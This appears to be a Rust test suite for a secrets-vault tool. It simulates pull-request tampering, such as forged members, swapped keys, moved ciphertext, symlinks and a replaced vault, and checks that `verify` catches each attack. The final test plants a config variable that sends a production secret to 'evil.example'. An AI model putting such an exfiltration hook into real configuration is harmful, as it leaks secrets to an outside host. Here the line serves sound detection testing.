//! Attacks that a pull request can make without a key, or with a key of too little access: `verify
//! --since`, which needs no key, exits with 1 and names the file.
//!
//! Each attack starts from a vault with a history: alice owns it, bob can read production, carol
//! can write in development, a machine can read one name, and dave is a former writer of
//! production.

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::symlink;

use repovault::vault::format::{request_path, write_request};
use repovault::vault::model::{Access, Request, Signing};
use snapbox::str;

use crate::support::craft::{self, Person};
use crate::support::machine::all_is_wanted;
use crate::support::refusal::stocked;
use crate::support::sandbox::Sandbox;

const ROOT: &str = ".vault/root.toml";
const MALLORY: &str = ".vault/members/mallory.toml";
const MACHINE: &str = ".vault/members/machine.toml";
const URL: &str = ".vault/production/DATABASE_URL.toml";
const OTHER: &str = ".vault/production/OTHER.toml";
const EVE: &str = ".vault/requests/eve.toml";

struct Team {
    sandbox: Sandbox,
    bob: Person,
    carol: Person,
    dave: Person,
    machine: Person,
}

/// The team; the branch `joined` is from before dave left. Eve requests to join.
fn team() -> Team {
    let sandbox = stocked();
    let bob = craft::enroll(&sandbox, "bob", &[("production", Access::Read)]);
    let carol = craft::enroll(&sandbox, "carol", &[("development", Access::Write)]);
    let dave = craft::enroll(&sandbox, "dave", &[("production", Access::Write)]);
    let names = Access::Names(["OTHER".parse().unwrap()].into());
    let machine = craft::enroll(&sandbox, "machine", &[("production", names)]);
    ask(&sandbox, &Person::new());
    sandbox.commit("the team");
    sandbox.git(&["branch", "joined"]);
    sandbox.quick(&["members", "remove", "dave", "--yes"]);
    sandbox.commit("dave has left");
    let team = Team {
        sandbox,
        bob,
        carol,
        dave,
        machine,
    };
    assert_eq!(team.named(), files(&[]), "nothing is wrong yet");
    team
}

/// Eve's request to join, with these keys.
fn ask(sandbox: &Sandbox, person: &Person) {
    let member = person.member();
    let (name, vault) = ("eve".parse().unwrap(), sandbox.id().parse().unwrap());
    let (recipient, signing): (_, Signing) = (member.recipient, member.signing.unwrap());
    let request = Request {
        name,
        vault,
        recipient,
        signing,
    };
    fs::create_dir_all(sandbox.store("requests")).unwrap();
    let path = sandbox.store(&request_path(&request.name));
    fs::write(path, write_request(&request, &person.key)).unwrap();
}

fn files(names: &[&str]) -> BTreeSet<String> {
    names.iter().map(|name| (*name).to_owned()).collect()
}

impl Team {
    /// The files of all findings of `verify --since HEAD`; the status must agree with their number.
    fn named(&self) -> BTreeSet<String> {
        let verify = ["verify", "--since", "HEAD", "--json"];
        let outcome = self.sandbox.vault(&verify).without("HOME").outcome();
        let report: serde_json::Value = serde_json::from_slice(&outcome.output).unwrap();
        let findings = report["findings"].as_array().unwrap();
        assert_eq!(outcome.status, i32::from(!findings.is_empty()), "{report}");
        findings
            .iter()
            .map(|finding| finding["file"].as_str().unwrap().to_owned())
            .collect()
    }

    /// Checks that exactly these files are reported, and restores everything.
    #[track_caller]
    fn caught(&self, names: &[&str]) {
        assert_eq!(self.named(), files(names));
        self.restore();
    }

    fn restore(&self) {
        self.sandbox
            .git(&["checkout", "--quiet", "HEAD", "--", "."]);
        self.sandbox.git(&["clean", "--quiet", "-fd"]);
    }

    fn read(&self, path: &str) -> String {
        fs::read_to_string(self.sandbox.repo().join(path)).unwrap()
    }

    fn write(&self, path: &str, text: &str) {
        fs::write(self.sandbox.repo().join(path), text).unwrap();
    }

    /// Replaces text in a file in place.
    fn edit(&self, path: &str, from: &str, to: &str) {
        let text = self.read(path);
        assert!(text.contains(from), "{path}: {from}");
        self.write(path, &text.replace(from, to));
    }

    /// The value of `key` in the file of `member`.
    fn field(&self, member: &str, key: &str) -> String {
        let file = self.read(&own(member));
        let mut lines = file.lines();
        lines
            .find_map(|line| line.strip_prefix(&format!("{key} = ")))
            .unwrap()
            .to_owned()
    }

    /// The newest data key of production, sealed to `member`.
    fn sealed(&self, member: &str) -> String {
        let file = self.read(&own(member));
        let (_, keys) = file.split_once("[sealed.production]\n").unwrap();
        let line = keys.lines().next().unwrap();
        line.split_once(" = ").unwrap().1.to_owned()
    }
}

/// The file of a member.
fn own(member: &str) -> String {
    format!(".vault/members/{member}.toml")
}

#[test]
fn member_added_without_the_authority_is_found() {
    let team = team();
    let mallory = Person::new();
    let mut member = mallory.member();
    for environment in ["development", "production"] {
        member
            .access
            .insert(environment.parse().unwrap(), Access::Write);
    }
    // The file is exactly as vault would write it, with its own signature or the one of another
    // file.
    craft::put_member(&team.sandbox, "mallory", &member, &mallory.key);
    team.caught(&[MALLORY]);
    craft::put_member(&team.sandbox, "mallory", &member, &mallory.key);
    let body = craft::body(&team.sandbox, "members/mallory.toml");
    let signature = team.read(&own("bob")).lines().last().unwrap().to_owned();
    team.write(MALLORY, &format!("{body}{signature}\n"));
    team.caught(&[MALLORY]);
    // The genuine file of another member.
    team.write(MALLORY, &team.read(MACHINE));
    team.caught(&[MALLORY]);
    team.write(MALLORY, &team.read(MACHINE).replace("machine", "mallory"));
    team.caught(&[MALLORY]);
    // A root that lists mallory among those who know the key.
    craft::resign_root(&team.sandbox, &mallory.key, |root| {
        let production = root.environments.get_mut(&"production".parse().unwrap());
        production.unwrap().given.insert("mallory".parse().unwrap());
        root.revision += 1;
    });
    team.caught(&[ROOT]);
    // Mallory cannot take bob's place, or put a key into the file of the machine.
    let recipient = format!("\"bech32:{}\"", mallory.identity.recipient());
    team.edit(&own("bob"), &team.field("bob", "recipient"), &recipient);
    team.caught(&[ROOT, &own("bob")]);
    let line = format!("production = {}\n", team.field("machine", "production"));
    team.edit(MACHINE, &line, "production = \"write\"\n");
    team.caught(&[ROOT, MACHINE]);
}

#[test]
fn swapped_keys_in_members_files_are_found() {
    let team = team();
    let mallory = Person::new().member();
    let recipient = format!("\"bech32:{}\"", mallory.recipient);
    let key = mallory.signing.unwrap().signer;
    let signer = repovault::crypto::base64_encode(key.as_bytes());
    let signer = format!("\"b64:{signer}\"");
    for member in ["alice", "bob", "carol", "machine"] {
        let file = own(member);
        let mut found = vec![ROOT, &file];
        if member == "alice" {
            // Everything that she signed depends on her file.
            found.extend([URL, OTHER, ".vault/development/DATABASE_URL.toml"]);
        }
        team.edit(&file, &team.field(member, "recipient"), &recipient);
        team.caught(&found);
        team.edit(&file, &team.field(member, "signer"), &signer);
        team.caught(&found);
    }
}

#[test]
fn swapped_keys_in_a_request_are_found() {
    let team = team();
    let request = team.read(EVE);
    let mallory = Person::new();
    ask(&team.sandbox, &mallory);
    let forged = team.read(EVE);
    // A complete request, signed by its own signer, which anyone can create.
    team.caught(&[EVE]);
    for key in ["recipient", "signer", "signing_key", "signature"] {
        let line = |text: &str| {
            text.lines()
                .find(|line| line.starts_with(&format!("{key} = ")))
                .unwrap()
                .to_owned()
        };
        team.edit(EVE, &line(&request), &line(&forged));
        team.caught(&[EVE]);
    }
    // Under another name, and under a name that is in use.
    for name in ["zoe", "bob", "dave"] {
        let path = format!(".vault/requests/{name}.toml");
        team.write(&path, &request.replace("eve", name));
        team.caught(&[&path]);
    }
}

/// Files that were written by one change count only together.
#[test]
fn every_mixture_of_old_and_new_files_is_found() {
    let team = team();
    let [alice, bob, carol, dave, machine] = ["alice", "bob", "carol", "dave", "machine"].map(own);
    let development = ".vault/development/DATABASE_URL.toml";
    let changed = team.sandbox.git(&["diff", "--name-only", "joined", "HEAD"]);
    let changed: Vec<&str> = changed.lines().collect();
    let all = [
        development,
        &alice,
        &bob,
        &carol,
        &dave,
        &machine,
        URL,
        OTHER,
        ROOT,
    ];
    assert_eq!(changed, all);
    // The files that are old together; the files of staying members differ in nothing else.
    let groups = [
        &[ROOT][..],
        &[&dave],
        &[&alice],
        &[&bob, &carol, &machine],
        &[URL],
        &[OTHER],
    ];
    for mixture in 1..1u32 << groups.len() {
        let is_old = |at: &usize| mixture >> at & 1 == 1;
        // The twenty with three old groups run only with VAULT_TESTS=all.
        if mixture.count_ones() == 3 && !all_is_wanted() {
            continue;
        }
        let old: Vec<&str> = (0..groups.len())
            .filter(is_old)
            .flat_map(|at| groups[at])
            .copied()
            .collect();
        let checkout = [&["checkout", "--quiet", "joined", "--"], &old[..]].concat();
        team.sandbox.git(&checkout);
        let named = team.named();
        if old.contains(&ROOT) {
            assert!(named.contains(ROOT), "{old:?}: {named:?}");
        } else {
            assert!(named.is_superset(&files(&old)), "{old:?}: {named:?}");
        }
        team.restore();
    }
}

#[test]
fn deleted_files_are_found() {
    let team = team();
    for path in [URL, OTHER, ROOT] {
        fs::remove_file(team.sandbox.repo().join(path)).unwrap();
        team.caught(&[path]);
    }
    for member in ["bob", "machine"] {
        let path = own(member);
        fs::remove_file(team.sandbox.repo().join(&path)).unwrap();
        team.caught(&[ROOT, &path]);
    }
    fs::remove_dir_all(team.sandbox.store("production")).unwrap();
    team.caught(&[URL, OTHER]);
    fs::remove_dir_all(team.sandbox.store("")).unwrap();
    team.caught(&[".vault"]);
    fs::remove_file(team.sandbox.repo().join("vault.toml")).unwrap();
    let gone = team.sandbox.vault(&["verify", "--since", "HEAD"]).outcome();
    assert_eq!(gone.status, 2, "{}", gone.said);
}

#[test]
fn links_and_names_differing_in_case_are_found() {
    let team = team();
    let outside = team.sandbox.home().join("outside");
    let bob = own("bob");
    for (path, found) in [
        (URL, &[URL][..]),
        (ROOT, &[ROOT]),
        (&bob, &[ROOT, &bob]),
        (EVE, &[EVE]),
    ] {
        let file = team.sandbox.repo().join(path);
        fs::rename(&file, &outside).unwrap();
        symlink(&outside, &file).unwrap();
        team.caught(found);
    }
    let lower = ".vault/production/Database_Url.toml";
    team.write(lower, &team.read(URL));
    team.caught(&[".vault/production"]);
    let upper = ".vault/members/Bob.toml";
    team.write(upper, &team.read(&bob));
    team.caught(&[upper]);
}

#[test]
fn renamed_environment_is_found() {
    let team = team();
    let store = |path: &str| team.sandbox.store(path);
    let rename = |from: &str, to: &str| {
        fs::rename(store(from), store(to)).unwrap();
        for name in ["DATABASE_URL", "OTHER"] {
            let file = format!(".vault/{to}/{name}.toml");
            if team.sandbox.repo().join(&file).exists() {
                team.write(&file, &team.read(&file).replace(from, to));
            }
        }
    };
    rename("production", "live");
    team.caught(&[URL, OTHER, ".vault/live"]);
    rename("production", "live");
    team.edit(ROOT, "production", "live");
    team.caught(&[ROOT]);
    // One environment in place of another, so that a developer's values become those of production.
    rename("production", "aside");
    rename("development", "production");
    rename("aside", "development");
    let development = ".vault/development";
    let [url, other] = ["DATABASE_URL", "OTHER"].map(|name| format!("{development}/{name}.toml"));
    team.caught(&[URL, OTHER, &url, &other]);
}

#[test]
fn ciphertext_moved_to_another_member_is_found() {
    let team = team();
    let alices = [URL, OTHER, ".vault/development/DATABASE_URL.toml"];
    let (alice, bob) = (own("alice"), own("bob"));
    let all = [&[ROOT, &alice][..], &alices].concat();
    for (from, to, found) in [("alice", "bob", &[ROOT, &bob][..]), ("bob", "alice", &all)] {
        let key = "signing_key";
        team.edit(&own(to), &team.field(to, key), &team.field(from, key));
        team.caught(found);
        team.edit(&own(to), &team.sealed(to), &team.sealed(from));
        team.caught(found);
    }
    let signing_key = format!("signing_key = {}\n", team.field("bob", "signing_key"));
    let admin = format!(
        "{signing_key}admin = true\nauthority = {}\n",
        team.field("alice", "authority")
    );
    team.edit(&bob, &signing_key, &admin);
    team.caught(&[ROOT, &bob]);
    let value = |text: &str| {
        text.lines()
            .find(|line| line.starts_with("sealed = "))
            .unwrap()
            .to_owned()
    };
    team.edit(URL, &value(&team.read(URL)), &value(&team.read(OTHER)));
    team.caught(&[URL]);
}

/// Each of them holds a genuine key: a reader, a writer of another environment, a limited machine,
/// and a former member.
#[test]
fn signature_without_write_access_is_found() {
    let team = team();
    let people = [
        ("bob", &team.bob),
        ("carol", &team.carol),
        ("dave", &team.dave),
        ("machine", &team.machine),
    ];
    for (name, person) in people {
        for signer in [name, "alice"] {
            craft::resign_entry(&team.sandbox, "production", "OTHER", &person.key, |entry| {
                entry.signer = signer.parse().unwrap();
                entry.revision += 1;
            });
            team.caught(&[OTHER]);
            craft::resign_entry(&team.sandbox, "production", "OTHER", &person.key, |entry| {
                entry.signer = signer.parse().unwrap();
                (entry.sealed, entry.revision) = (None, entry.revision + 1);
            });
            team.caught(&[OTHER]);
        }
        craft::resign_member(&team.sandbox, "bob", &person.key, |bob| bob.revision += 1);
        team.caught(&[ROOT, &own("bob")]);
        craft::resign_root(&team.sandbox, &person.key, |root| root.revision += 1);
        team.caught(&[ROOT]);
    }
}

/// Dave's clone is older, the old key opens it, and git merges the branch without a conflict.
#[test]
fn changes_of_a_former_member_in_an_old_clone_are_found() {
    let team = team();
    let sandbox = &team.sandbox;
    let key = team.dave.key_file(sandbox).display().to_string();
    sandbox.git(&["checkout", "--quiet", "-b", "daves", "joined"]);
    for name in ["NEW", "OTHER"] {
        let set = ["set", name, "-e", "production", "-q"];
        let set = sandbox
            .vault(&set)
            .variable("VAULT_KEY_FILE", &key)
            .input("dave's");
        set.variable("VAULT_ID", &sandbox.id())
            .without("HOME")
            .any_change()
            .check();
        sandbox.commit(name);
    }
    sandbox.git(&["checkout", "--quiet", "main"]);
    sandbox.git(&["merge", "--quiet", "--no-commit", "--no-ff", "daves~"]);
    assert_eq!(team.named(), files(&[".vault/production/NEW.toml"]));
    sandbox.git(&["reset", "--quiet", "--hard"]);
    // And the whole clone over our files: its root still gives dave write access.
    sandbox.git(&["checkout", "--quiet", "daves", "--", ".vault"]);
    let named = team.named();
    assert!(named.contains(ROOT) && named.contains(URL), "{named:?}");
}

/// A vault created by the attacker, in which every member can open everything.
#[test]
fn replaced_vault_is_found() {
    let team = team();
    let attacker = stocked();
    for (name, person) in [
        ("bob", &team.bob),
        ("carol", &team.carol),
        ("dave", &team.dave),
    ] {
        let access = [
            ("development", Access::Write),
            ("production", Access::Write),
        ];
        craft::enroll_person(&attacker, name, &access, person);
    }
    fs::remove_dir_all(team.sandbox.store("")).unwrap();
    fs::rename(attacker.store(""), team.sandbox.store("")).unwrap();
    team.caught(&[ROOT]);
}

/// Git would omit new files or hide changes, but no file of the vault differs.
#[test]
fn changed_git_settings_below_the_store_are_reported() {
    let team = team();
    team.write(".vault/.gitignore", "*\n");
    team.write(
        ".vault/.gitattributes",
        "* -text linguist-generated -diff\n",
    );
    let expected = str![[r#"
::notice title=vault verify::compared with HEAD = [..]
::warning file=.vault/requests/eve.toml,[..]
::warning file=.vault/.gitattributes,title=vault verify::.vault/.gitattributes changed, and vault never changes it
::warning file=.vault/.gitignore,title=vault verify::.vault/.gitignore changed, and vault never changes it
"#]];
    let github = ["verify", "--since", "HEAD", "--format", "github"];
    team.sandbox
        .vault(&github)
        .without("HOME")
        .prints(&expected)
        .check();
}

/// `vault.toml` grants nothing, so this is not a finding; it is reported to reviewers.
#[test]
fn names_added_in_vault_toml_are_reported() {
    let team = team();
    let config = team.read("vault.toml");
    let asking = format!(
        "{config}\n[steps.test]\nnames = [\"DATABASE_URL\"]\n
[environments.production.variables]\nHOOK = \"https://evil.example/${{OTHER}}\"\n"
    );
    team.write("vault.toml", &asking);
    let github = ["verify", "--since", "HEAD", "--format", "github"];
    let expected = str![[r#"
::notice title=vault verify::compared with HEAD = [..]
::warning file=.vault/requests/eve.toml,title=vault verify::eve wants to join with recipient [..]
::warning file=vault.toml,title=vault verify::vault.toml: the variable HOOK of production is new or changed, and refers to OTHER
::warning file=vault.toml,title=vault verify::vault.toml: the step test lists more names: DATABASE_URL
"#]];
    team.sandbox
        .vault(&github)
        .without("HOME")
        .prints(&expected)
        .check();
    team.caught(&[]);
}
